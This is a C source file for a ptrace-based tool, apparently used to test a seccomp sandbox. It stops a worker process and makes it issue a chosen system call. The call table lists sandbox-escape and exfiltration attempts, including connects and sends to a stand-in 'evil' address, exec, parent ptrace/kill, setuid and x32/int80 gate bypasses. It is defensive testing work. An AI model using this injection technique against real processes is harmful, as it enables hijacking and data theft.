/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hijack: makes a running process do one system call of our choice, as code injected into it would.
 *
 *	hijack list			names of the calls
 *	hijack PID CALL			one line: "killed", "errno N" or "result N"
 *
 * The process is stopped at its next system call instruction (a worker waits in one), its registers are
 * set, and it takes one step; so its real credentials, descriptors, namespaces and filter answer. In each
 * call FD is the highest descriptor that is a socket: in a worker, that of a flow.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef __x86_64__
int main(void)
{
	puts("unsupported");
	return 77;
}
#else

/* What the calls point at; copied below the victim's stack. */
struct scratch {
	struct sockaddr_in evil;	/* 198.51.100.20:80 */
	struct sockaddr_un un;
	struct iovec iov;
	struct mmsghdr msg;		/* to evil */
	char path[32], program[32], bytes[16];
	uint64_t argv[2];
	struct { uint64_t words[11]; } clone_args;
	uint64_t zeroes[32];
};

enum { FD = -1000, SELF_PARENT = -1001 };	/* placeholders among the arguments */
#define AT(member) (-2000 - (long)offsetof(struct scratch, member))
#define IS_AT(v) ((v) <= -2000 && (v) > -2000 - (long)sizeof(struct scratch))

#define X32 0x40000000l

static const struct call {
	const char *name;
	long nr;
	long args[6];
	int int80;			/* by the 32-bit gate instead */
} calls[] = {
	/* controls: a worker may do these */
	{ "clock_gettime", __NR_clock_gettime, { 1, AT(zeroes) }, 0 },
	{ "mmap-data", __NR_mmap, { 0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1 }, 0 },
	{ "sendto-peer", __NR_sendto, { FD, AT(bytes), 1, MSG_NOSIGNAL, 0, 0 }, 0 },
	/* network */
	{ "socket-inet", __NR_socket, { AF_INET, SOCK_STREAM, 0 }, 0 },
	{ "socket-unix", __NR_socket, { AF_UNIX, SOCK_STREAM, 0 }, 0 },
	{ "socket-packet", __NR_socket, { AF_PACKET, SOCK_RAW, 0 }, 0 },
	{ "socket-netlink", __NR_socket, { AF_NETLINK, SOCK_RAW, 0 }, 0 },
	{ "socket-raw", __NR_socket, { AF_INET, SOCK_RAW, IPPROTO_TCP }, 0 },
	{ "socketpair", __NR_socketpair, { AF_UNIX, SOCK_STREAM, 0, AT(zeroes) }, 0 },
	{ "connect", __NR_connect, { FD, AT(evil), sizeof(struct sockaddr_in) }, 0 },
	{ "sendto-evil", __NR_sendto, { FD, AT(bytes), 1, MSG_NOSIGNAL, AT(evil), sizeof(struct sockaddr_in) }, 0 },
	{ "sendto-fastopen", __NR_sendto, { FD, AT(bytes), 1, MSG_FASTOPEN, AT(evil), sizeof(struct sockaddr_in) }, 0 },
	{ "sendmsg-evil", __NR_sendmsg, { FD, AT(msg), MSG_NOSIGNAL }, 0 },
	{ "sendmmsg-evil", __NR_sendmmsg, { FD, AT(msg), 1, MSG_NOSIGNAL }, 0 },
	{ "bind", __NR_bind, { FD, AT(evil), sizeof(struct sockaddr_in) }, 0 },
	{ "listen", __NR_listen, { FD, 5 }, 0 },
	{ "accept4", __NR_accept4, { FD, 0, 0, 0 }, 0 },
	{ "setsockopt-mark", __NR_setsockopt, { FD, SOL_SOCKET, SO_MARK, AT(bytes), 4 }, 0 },
	{ "setsockopt-ip", __NR_setsockopt, { FD, IPPROTO_IP, IP_OPTIONS, AT(zeroes), 4 }, 0 },
	/* descriptors */
	{ "dup", __NR_dup, { FD }, 0 },
	{ "dup2", __NR_dup2, { FD, 5 }, 0 },
	{ "dup3", __NR_dup3, { FD, 5, 0 }, 0 },
	{ "fcntl-dupfd", __NR_fcntl, { FD, F_DUPFD, 0 }, 0 },
	{ "close-low", __NR_close, { 5 }, 0 },
	{ "close-low-disguised", __NR_close, { 0x100000005l }, 0 },
	{ "ioctl", __NR_ioctl, { 2, 0x5412 /* TIOCSTI */, AT(bytes) }, 0 },
	/* files */
	{ "openat", __NR_openat, { AT_FDCWD, AT(path), O_RDONLY }, 0 },
	{ "open", __NR_open, { AT(path), O_RDONLY }, 0 },
	{ "openat2", __NR_openat2, { AT_FDCWD, AT(path), AT(zeroes), 24 }, 0 },
	{ "chdir", __NR_chdir, { AT(path) }, 0 },
	{ "mkdir", __NR_mkdir, { AT(program), 0700 }, 0 },
	{ "memfd_create", __NR_memfd_create, { AT(bytes), 0 }, 0 },
	{ "mount", __NR_mount, { AT(bytes), AT(path), AT(bytes), 0, 0 }, 0 },
	{ "chroot", __NR_chroot, { AT(path) }, 0 },
	/* code and processes */
	{ "execve", __NR_execve, { AT(program), AT(argv), 0 }, 0 },
	{ "execveat", __NR_execveat, { AT_FDCWD, AT(program), AT(argv), 0, 0 }, 0 },
	{ "fork", __NR_fork, { 0 }, 0 },
	{ "clone", __NR_clone, { SIGCHLD }, 0 },
	{ "clone3", __NR_clone3, { AT(clone_args), 64 }, 0 },
	{ "mmap-exec", __NR_mmap, { 0, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1 }, 0 },
	{ "mprotect-exec", __NR_mprotect, { 0, 4096, PROT_READ | PROT_EXEC }, 0 },
	{ "kill-parent", __NR_kill, { SELF_PARENT, SIGKILL }, 0 },
	{ "tgkill-parent", __NR_tgkill, { SELF_PARENT, SELF_PARENT, SIGKILL }, 0 },
	{ "ptrace-parent", __NR_ptrace, { PTRACE_SEIZE, SELF_PARENT, 0, 0 }, 0 },
	{ "process_vm_readv", __NR_process_vm_readv, { SELF_PARENT, AT(iov), 1, AT(iov), 1, 0 }, 0 },
	{ "pidfd_open", __NR_pidfd_open, { SELF_PARENT, 0 }, 0 },
	/* the kernel */
	{ "setuid", __NR_setuid, { 0 }, 0 },
	{ "capset", __NR_capset, { AT(zeroes), AT(zeroes) }, 0 },
	{ "prctl", __NR_prctl, { 4 /* PR_SET_DUMPABLE */, 1 }, 0 },
	{ "seccomp", __NR_seccomp, { SECCOMP_GET_ACTION_AVAIL, 0, AT(zeroes) }, 0 },
	{ "unshare", __NR_unshare, { CLONE_NEWUSER }, 0 },
	{ "setns", __NR_setns, { FD, 0 }, 0 },
	{ "bpf", __NR_bpf, { 0, AT(zeroes), 16 }, 0 },
	{ "io_uring_setup", __NR_io_uring_setup, { 1, AT(zeroes) }, 0 },
	{ "userfaultfd", __NR_userfaultfd, { 0 }, 0 },
	{ "perf_event_open", __NR_perf_event_open, { AT(zeroes), 0, -1, -1, 0 }, 0 },
	{ "keyctl", __NR_keyctl, { 0, -3, 0 }, 0 },
	/* other doors */
	{ "x32-socket", X32 | __NR_socket, { AF_INET, SOCK_STREAM, 0 }, 0 },
	{ "x32-write", X32 | __NR_write, { 2, AT(bytes), 1 }, 0 },
	{ "int80-socket", 359, { AF_INET, SOCK_STREAM, 0 }, 1 },
	{ "int80-getpid", 20, { 0 }, 1 },
	{ "unknown", 1000, { 0 }, 0 },
};

enum { N_CALLS = sizeof(calls) / sizeof(calls[0]) };

static void __attribute__((noreturn)) die(const char *what)
{
	perror(what);
	exit(2);
}

static long highest_socket(pid_t pid)
{
	char path[64], link[64];
	struct dirent *e;
	long best = -1;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	if (!d)
		die(path);
	while ((e = readdir(d))) {
		ssize_t n = readlinkat(dirfd(d), e->d_name, link, sizeof(link) - 1);

		if (n > 7 && strncmp(link, "socket:", 7) == 0 && atol(e->d_name) > best)
			best = atol(e->d_name);
	}
	closedir(d);
	return best;
}

static long parent_of(pid_t pid)
{
	char path[64];
	long ppid = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	f = fopen(path, "r");
	if (!f || fscanf(f, "%*d (%*[^)]) %*c %ld", &ppid) != 1)
		die(path);
	fclose(f);
	return ppid;
}

static void poke(pid_t pid, uint64_t at, const void *from, size_t len)
{
	const char *p = from;

	for (size_t i = 0; i < len; i += 8) {
		long word = 0;

		memcpy(&word, p + i, len - i < 8 ? len - i : 8);
		if (ptrace(PTRACE_POKEDATA, pid, at + i, word) < 0)
			die("PTRACE_POKEDATA");
	}
}

/* Pointers among the contents are relative to where it will lie. */
static void write_scratch(pid_t pid, uint64_t at)
{
	static struct scratch s;
	uint64_t name = at + offsetof(struct scratch, evil), iov = at + offsetof(struct scratch, iov);
	uint64_t bytes = at + offsetof(struct scratch, bytes);

	s.evil.sin_family = AF_INET;
	s.evil.sin_port = htons(80);
	inet_pton(AF_INET, "198.51.100.20", &s.evil.sin_addr);
	strcpy(s.path, "/etc");
	strcpy(s.program, "/bin/true");
	strcpy(s.bytes, "tmpfs");
	memcpy(&s.iov.iov_base, &bytes, 8);
	s.iov.iov_len = 1;
	memcpy(&s.msg.msg_hdr.msg_name, &name, 8);
	s.msg.msg_hdr.msg_namelen = sizeof(s.evil);
	memcpy(&s.msg.msg_hdr.msg_iov, &iov, 8);
	s.msg.msg_hdr.msg_iovlen = 1;
	s.argv[0] = at + offsetof(struct scratch, program);
	s.clone_args.words[4] = SIGCHLD;
	poke(pid, at, &s, sizeof(s));
}

/* Back to the system call instruction that it stopped in; the gate of 32 bits is written over it. */
static void aim(pid_t pid, struct user_regs_struct *r, const struct call *c, uint64_t scratch)
{
	unsigned long long *slot[6] = { &r->rdi, &r->rsi, &r->rdx, &r->r10, &r->r8, &r->r9 };
	long word;

	r->rip -= 2;
	errno = 0;
	word = ptrace(PTRACE_PEEKTEXT, pid, r->rip, 0);
	if (errno || (word & 0xffff) != 0x050f) {
		fprintf(stderr, "not stopped in a system call\n");
		exit(2);
	}
	if (c->int80 && ptrace(PTRACE_POKETEXT, pid, r->rip, (word & ~0xffffl) | 0x80cd) < 0)
		die("PTRACE_POKETEXT");
	if (c->int80) {
		slot[0] = &r->rbx;
		slot[1] = &r->rcx;
	}
	for (int i = 0; i < 6; i++) {
		long v = c->args[i];

		if (v == FD)
			v = highest_socket(pid);
		else if (v == SELF_PARENT)
			v = parent_of(pid);
		else if (IS_AT(v))
			v = (long)scratch + (-2000 - v);
		*slot[i] = (unsigned long long)v;
	}
	if (strcmp(c->name, "mprotect-exec") == 0)
		r->rdi = scratch & ~0xfffull;
	r->rax = (unsigned long long)c->nr;
	r->orig_rax = (unsigned long long)-1;	/* nothing to restart */
}

static void hijack(pid_t pid, const struct call *c)
{
	struct user_regs_struct old, r;
	uint64_t scratch;
	int status;

	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_EXITKILL) < 0 || ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 ||
	    waitpid(pid, &status, __WALL) < 0)
		die("PTRACE_SEIZE");
	if (ptrace(PTRACE_GETREGS, pid, 0, &old) < 0)
		die("PTRACE_GETREGS");
	scratch = (old.rsp - 8192) & ~0xfull;
	write_scratch(pid, scratch);
	r = old;
	aim(pid, &r, c, scratch);
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0)
		die("PTRACE_SINGLESTEP");
	for (;;) {
		if (waitpid(pid, &status, __WALL) < 0)
			die("waitpid");
		if (WIFSIGNALED(status) || WIFEXITED(status))
			break;
		if (WSTOPSIG(status) == SIGTRAP)
			break;
		/* A signal on its way in: not now. */
		if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0)
			die("PTRACE_SINGLESTEP");
	}
	if (WIFSIGNALED(status) || WIFEXITED(status)) {
		if (WIFSIGNALED(status) && WTERMSIG(status) == SIGSYS)
			puts("killed");
		else
			printf("ended 0x%x\n", status);
		return;
	}
	if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
		die("PTRACE_GETREGS");
	if ((long)r.rax < 0 && (long)r.rax > -4096)
		printf("errno %ld %s\n", -(long)r.rax, strerrorname_np(-(int)r.rax));
	else
		printf("result %ld\n", (long)r.rax);
	/* Whatever it has become, it is of no further use. */
	kill(pid, SIGKILL);
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "list") == 0) {
		for (int i = 0; i < N_CALLS; i++)
			puts(calls[i].name);
		return 0;
	}
	for (int i = 0; argc == 3 && i < N_CALLS; i++) {
		if (strcmp(calls[i].name, argv[2]) == 0) {
			hijack((pid_t)atol(argv[1]), &calls[i]);
			return 0;
		}
	}
	fprintf(stderr, "usage: hijack list | PID CALL\n");
	return 2;
}
#endif
